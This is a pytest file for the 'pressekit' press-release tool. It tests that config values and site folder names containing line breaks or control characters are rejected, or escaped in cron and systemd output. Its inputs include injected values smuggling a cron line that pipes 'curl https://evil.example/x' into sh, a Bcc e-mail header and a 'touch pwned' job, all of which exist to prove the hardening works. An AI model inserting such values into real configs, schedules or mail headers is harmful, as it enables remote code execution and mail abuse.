"""Hardening of check/build/email/timeline: config values, template errors, one validation for every command."""

from __future__ import annotations

import hashlib
from dataclasses import replace
from datetime import datetime
from pathlib import Path

import pytest
from click.testing import CliRunner
from sitekit import CONFIG, SIMPLE, write_photo, write_release, write_site

from pressekit.cli import main
from pressekit.releases import load_site
from pressekit.timeline import cron_lines, plan_timeline, systemd_timer

NOW = "2025-06-01T12:00:00+02:00"
RID = "2025-03-04-radweg"
SCHEDULED = """\
---
title: Kreis stellt Haushalt vor
date: 2025-07-01
embargo: 2025-07-01T10:00:00+02:00
---
Der Haushalt steht.
"""
EVIL_TITLE = 'title = "Presse\\n* * * * * curl https://evil.example/x | sh\\n#"'
TITLE = 'title = "Pressemitteilungen des Landkreises Beispielheim"'


def run(root: Path, *args: str) -> tuple[int, str, str]:
    """Run a pressekit command on the site at root; a traceback fails the test."""
    result = CliRunner().invoke(main, [*args, "--site", str(root)])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.stderr + result.stdout
    return result.exit_code, result.stdout, result.stderr


def tree(folder: Path) -> dict[str, str]:
    """relpath -> sha256 of every file under folder (the cache excluded)."""
    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file() and ".pressekit" not in p.parts}


# --- 1. config values cannot start a new line ---------------------------------------------------------

LINE_BREAK = "pressekit.toml:{line}: [{table}] {key}: contains a line break; a single line is expected"
CONFIG_VALUE_CASES = {
    "newline in title": (CONFIG.replace(TITLE, EVIL_TITLE), [LINE_BREAK.format(line=2, table="site", key="title")]),
    "CR in organisation": (CONFIG.replace('organisation = "Landkreis', 'organisation = "Land\\rkreis'),
                           [LINE_BREAK.format(line=3, table="site", key="organisation")]),
    "U+2028 in title": (CONFIG.replace(TITLE, 'title = "Presse\\u2028Mitteilungen"'),
                        [LINE_BREAK.format(line=2, table="site", key="title")]),
    "U+2029 in timezone": (CONFIG.replace('"Europe/Berlin"', '"Europe/Berlin\\u2029"'),
                           [LINE_BREAK.format(line=6, table="site", key="timezone")]),
    "U+0085 in contact name": (CONFIG.replace('"Jana Muster"', '"Jana\\u0085Muster"'),
                               [LINE_BREAK.format(line=20, table="contacts.pressestelle", key="name")]),
    "newline in boilerplate heading": (CONFIG.replace('heading = "Der', 'heading = "\\nDer'),
                                       [LINE_BREAK.format(line=15, table="boilerplate", key="heading")]),
    "newline in e-mail sender": (CONFIG.replace('from = "Pressestelle', 'from = "Bcc: x@evil.example\\nPressestelle'),
                                 [LINE_BREAK.format(line=46, table="email", key="from")]),
    "tab in title": (CONFIG.replace(TITLE, 'title = "Presse\\tMitteilungen"'),
                     ["pressekit.toml:2: [site] title: contains the control character U+0009\n"
                      "  hint: remove invisible characters pasted from another program"]),
    "U+2028 in a paragraph text": (CONFIG.replace('reuse = "Sämtliche', 'reuse = "\\u2028Sämtliche'),
                                   ["pressekit.toml:11: [texts] reuse: contains a line break other than a plain "
                                    "new line\n  hint: separate paragraphs with an empty line"]),
}


@pytest.mark.parametrize("config, expected", CONFIG_VALUE_CASES.values(), ids=CONFIG_VALUE_CASES.keys())
@pytest.mark.parametrize("command", [["check"], ["build", "--now", NOW], ["timeline", "--cron"],
                                     ["timeline", "--systemd"], ["email", RID]])
def test_a_line_break_in_a_config_value_is_an_error_for_every_command(
        tmp_path: Path, config: str, expected: list[str], command: list[str]) -> None:
    root = write_site(tmp_path / "site", {RID: SIMPLE, "2025-07-01-haushalt": SCHEDULED}, config=config)
    before = tree(root)
    code, out, err = run(root, *command)
    assert code == 1
    assert "curl" not in out
    problems = err if command[0] != "check" else out.replace(": error: ", ": ")
    for message in expected:
        assert message in problems
    assert tree(root) == before


def test_paragraph_texts_may_hold_line_breaks(tmp_path: Path) -> None:
    config = CONFIG.replace('reuse = "Sämtliche', 'reuse = """Erster Absatz.\n\nSämtliche').replace(
        'Belegexemplare sind willkommen."', 'Belegexemplare sind willkommen."""')
    root = write_site(tmp_path / "site", {RID: SIMPLE}, config=config)
    code, out, _ = run(root, "email", RID)
    assert code == 0
    assert "\nErster Absatz.\nSämtliche Texte" in out


@pytest.mark.parametrize("flag", ["--cron", "--systemd"])
def test_timeline_output_has_no_line_a_value_started(tmp_path: Path, flag: str) -> None:
    root = write_site(tmp_path / "site", {"2025-07-01-haushalt": SCHEDULED})
    config, releases = load_site(root)
    # a config that did not pass validation (built in code) still cannot add a line
    evil = replace(config, site=replace(config.site, title="Presse\n* * * * * curl x | sh\u2028#\r"))
    plan = plan_timeline(releases, datetime.fromisoformat(NOW))
    schedule = cron_lines if flag == "--cron" else systemd_timer
    text = schedule(plan, evil, root.resolve())
    assert "Presse\\u000a* * * * * curl x | sh\\u2028#\\u000d" in text
    assert len(text.splitlines()) == len(schedule(plan, config, root.resolve()).splitlines())


@pytest.mark.parametrize("flag", ["--cron", "--systemd"])
def test_timeline_refuses_a_site_folder_whose_name_breaks_lines(tmp_path: Path, flag: str) -> None:
    root = write_site(tmp_path / "site\n* * * * * touch pwned", {"2025-07-01-haushalt": SCHEDULED})
    code, out, err = run(root, "timeline", flag, "--now", NOW)
    assert code == 1
    assert out == ""
    assert err == (f"Error: the site folder {tmp_path.resolve()}/site\\u000a* * * * * touch pwned has a line break "
                   "or control character in its path; a schedule cannot name it\n  hint: rename the folder\n")
